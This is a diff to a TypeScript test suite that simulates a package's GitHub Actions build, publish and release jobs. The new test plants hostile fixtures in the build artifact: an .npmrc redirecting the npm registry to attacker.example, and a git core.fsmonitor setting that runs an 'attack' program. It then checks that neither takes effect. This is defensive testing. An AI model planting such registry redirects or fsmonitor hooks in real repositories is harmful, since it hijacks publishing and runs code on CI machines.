@@ -5,8 +5,9 @@ import { parse } from 'yaml';
 import { Command, rootFolder, tarballPath, tempFolder } from '../../harness';
 
 interface Step {
+	uses?: string;
+	with?: { path?: string };
 	run?: string;
-	id?: string;
 	env?: Record<string, string>;
 }
 
@@ -25,7 +26,7 @@ const tarball = path.relative(rootFolder, tarballPath);
 /** A clone at a tag of main, with the package that the build job packs. */
 let clone: string;
 /** What the build job hands over to the others. */
-const artifact = () => path.join(clone, '.cache/package');
+const artifact = '.cache/package';
 /** Calls of GitHub's program. */
 const releases = () => readFileSync(path.join(clone, 'gh.log'), 'utf8');
 
@@ -43,9 +44,13 @@ beforeEach(() => {
 	put('package.json', JSON.stringify({ version }));
 	put('CHANGELOG.md', changelog);
 	put(tarball);
+	// It lets Git look at the working directory first, as GitHub's program does.
 	put(
 		'programs/gh',
-		'#!/bin/sh\nprintf "%s\\n" "$@" >> ../../gh.log\ncat notes.md >> ../../gh.log\n',
+		`#!/bin/sh
+git status >&2
+{ printf '%s\\n' "$@"; for notes; do :; done; cat "$notes"; } >> '${path.join(clone, 'gh.log')}'
+`,
 	);
 	// Without an account of npm and a place for the statement, it can be tried only.
 	put('programs/npm', '#!/bin/sh\nPATH="${PATH#*:}" exec npm "$@" --dry-run --provenance=false\n');
@@ -64,19 +69,24 @@ const commit = (message: string) => {
 };
 
 /**
- * Runs the commands of a job as GitHub does.
+ * Runs the commands of a job as GitHub does: in the clone if the job checks it out, otherwise in an empty folder.
  * @returns the outputs of its steps, by name
  * @throws with a command's own words if it fails
  */
 async function runJob(
 	job: keyof typeof jobs,
-	cwd: string,
 	outputs: Record<string, string> = {},
 	tag = version,
 ): Promise<Record<string, string>> {
+	const { steps } = jobs[job];
+	const isCheckedOut = steps.some(({ uses }) => uses?.includes('/checkout@'));
+	const cwd = isCheckedOut ? clone : mkdtempSync(path.join(clone, 'job-'));
 	const outputFile = path.join(clone, 'outputs');
 	writeFileSync(outputFile, '');
-	for (const { run, env = {} } of jobs[job].steps) {
+	for (const { uses, with: own, run, env = {} } of steps) {
+		const target = path.join(cwd, own?.path ?? '');
+		if (uses?.includes('/download-artifact@') && !isCheckedOut)
+			cpSync(path.join(clone, artifact), target, { recursive: true });
 		if (!run || ofTests.test(run)) continue;
 		const filledIn = Object.entries(env).map(([name, value]) => [
 			name,
@@ -92,6 +102,8 @@ async function runJob(
 				...(Object.fromEntries(filledIn) as Record<string, string>),
 				GITHUB_REF_NAME: tag,
 				GITHUB_OUTPUT: outputFile,
+				// Not this repository's own, which is around all.
+				GIT_CEILING_DIRECTORIES: cwd === clone ? path.dirname(clone) : clone,
 				PATH: [path.join(clone, 'programs'), process.env.PATH].join(path.delimiter),
 			},
 		});
@@ -107,12 +119,27 @@ let published = '';
 
 test('a tag publishes the built file, and makes a release with the entry of the changelog', async () => {
 	published = '';
-	const outputs = await runJob('build', clone);
-	for (const job of ['publish', 'release'] as const) await runJob(job, artifact(), outputs);
+	const outputs = await runJob('build');
+	for (const job of ['publish', 'release'] as const) await runJob(job, outputs);
 	expect(published).toMatch(/\+ n8n-nodes-messaging-service@\d/);
-	const file = path.basename(tarballPath);
+	const file = `package/${path.basename(tarballPath)}`;
 	const args = ['release', 'create', version, file, '--verify-tag', '--title', version];
-	expect(releases()).toBe([...args, '--notes-file', 'notes.md', entry, ''].join('\n'));
+	expect(releases()).toBe([...args, '--notes-file', 'package/notes.md', entry, ''].join('\n'));
+});
+
+test('files that a test adds to the built ones neither redirect npm nor run a program', async () => {
+	published = '';
+	const outputs = await runJob('build');
+	put(`${artifact}/package.json`, '{}');
+	put(`${artifact}/.npmrc`, 'registry=http://attacker.example/\n');
+	put('programs/attack', '#!/bin/sh\necho attacked\n');
+	const folder = path.join(clone, artifact);
+	execFileSync('git', ['init', '--quiet'], { cwd: folder });
+	const program = path.join(clone, 'programs/attack');
+	execFileSync('git', ['config', 'core.fsmonitor', `${program} >&2; false`], { cwd: folder });
+	for (const job of ['publish', 'release'] as const) await runJob(job, outputs);
+	expect(published).toContain('Publishing to https://');
+	expect(published).not.toMatch(/attack/);
 });
 
 const undated = () => put('CHANGELOG.md', `## ${version} (unreleased)\n\n- New.\n`);
@@ -123,12 +150,16 @@ test.each([
 	['has no entry with a date', `Give CHANGELOG.md an entry for ${version}`, version, undated],
 ])('a tag that %s publishes nothing', async (_what, message, tag, change) => {
 	change();
-	await expect(runJob('build', clone, {}, tag)).rejects.toThrow(message);
+	await expect(runJob('build', {}, tag)).rejects.toThrow(message);
 });
 
-test.each(['test', 'publish', 'release'] as const)('%s rejects another file', async (job) => {
-	const outputs = await runJob('build', clone);
-	put(tarball, 'another');
-	const cwd = job === 'test' ? clone : artifact();
-	await expect(runJob(job, cwd, outputs)).rejects.toThrow('FAILED');
+test.each([
+	['test', tarball],
+	['publish', tarball],
+	['release', tarball],
+	['release', `${artifact}/notes.md`],
+] as const)('%s rejects another %s', async (job, file) => {
+	const outputs = await runJob('build');
+	put(file, 'another');
+	await expect(runJob(job, outputs)).rejects.toThrow('FAILED');
 });
